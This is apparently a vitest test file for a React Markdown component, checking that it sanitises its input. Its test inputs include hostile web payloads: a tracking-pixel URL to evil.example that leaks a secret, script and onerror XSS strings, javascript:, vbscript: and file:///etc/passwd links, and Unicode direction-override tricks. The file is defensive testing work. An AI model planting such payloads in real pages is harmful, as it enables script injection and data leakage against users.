import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { pageKit } from '../../store/page.test-kit.js';
import { StoreProvider } from '../../store/store-context.js';
import { Markdown } from './Markdown.js';

function rendered(text: string): string {
  return renderToStaticMarkup(
    <StoreProvider store={pageKit().store}>
      <Markdown text={text} />
    </StoreProvider>,
  );
}

describe('Markdown', () => {
  it('loads no picture: it shows its words and its address', () => {
    const html = rendered('![a pixel](https://evil.example/p.png?d=secret)');
    expect(html).not.toContain('<img');
    expect(html).toContain('a pixel');
    expect(html).toContain('https://evil.example/p.png?d=secret</a>');
  });

  it.each(['<img src=x onerror=alert(1)>', '<script>alert(1)</script>', '<iframe src="https://a"></iframe>'])(
    'shows %s as text',
    (html) => {
      const out = rendered(`before ${html} after\n\n${html}`);
      expect(out).not.toMatch(/<(img|script|iframe)/);
      expect(out).toContain('&lt;');
    },
  );

  it.each(['javascript:alert(1)', 'data:text/html,x', 'vbscript:x', 'file:///etc/passwd'])(
    'makes no link of %s',
    (address) => {
      expect(rendered(`[press](${address})`)).not.toContain('href');
    },
  );

  it.each([
    'a@b.example',
    '[down](#user-content-fn-1)',
    '[file](docs/notes.md)',
    'www.example.com',
    '[plain](http://example.com/)',
    '[root](/etc/passwd)',
  ])('makes no link of %s, which would not be opened, and says where it leads', (text) => {
    const out = rendered(text);
    expect(out).not.toContain('<a');
    expect(out).toMatch(/<span title="[^"]+">/);
  });

  it('makes links of what a browser is given', () => {
    expect(rendered('https://example.com/a')).toContain('<a href="https://example.com/a"');
    expect(rendered('[own](http://localhost:3000/)')).toContain('<a href="http://localhost:3000/"');
  });

  it('makes one link of a picture that is linked', () => {
    const out = rendered('[![build](https://img.example/b.svg)](https://ci.example/)');
    expect(out.match(/<a /g)).toHaveLength(1);
    expect(out).toContain('<a href="https://ci.example/"');
    expect(out).toContain('https://img.example/b.svg');
  });

  it('has footnotes, in the words of the page and without a way that leads nowhere', () => {
    const out = rendered('Said[^1].\n\n[^1]: By whom.');
    expect(out).toContain('>Footnotes</h2>');
    expect(out).toContain('By whom.');
    expect(out).not.toMatch(/<a |↩/);
  });

  it('says of a task whether it is done, also to who can’t see its box', () => {
    const out = rendered('- [x] a\n- [ ] b');
    expect(out).toContain('aria-label="Done"');
    expect(out).toContain('aria-label="To do"');
  });

  it('shows what hides or turns the reading around, in text and in code', () => {
    const out = rendered('read \u202Etxt.efas\u202C no\u200Bthing\n\n`a\u2066b`\n\n```\nc\u{E0041}d\n```');
    expect(out).not.toMatch(/[\u200B\u202A-\u202E\u2066-\u2069]|\u{E0041}/u);
    for (const shown of ['\\u{202E}txt.efas', 'no\\u{200B}thing', 'a\\u{2066}b', 'c\\u{E0041}d']) {
      expect(out).toContain(shown);
    }
  });

  it('makes tables, tasks and code', () => {
    const out = rendered('| a |\n|---|\n| b |\n\n- [x] c\n\n```ts\nd\n```');
    expect(out).toContain('<table>');
    expect(out).toContain('type="checkbox"');
    expect(out).toContain('language-ts');
  });
});
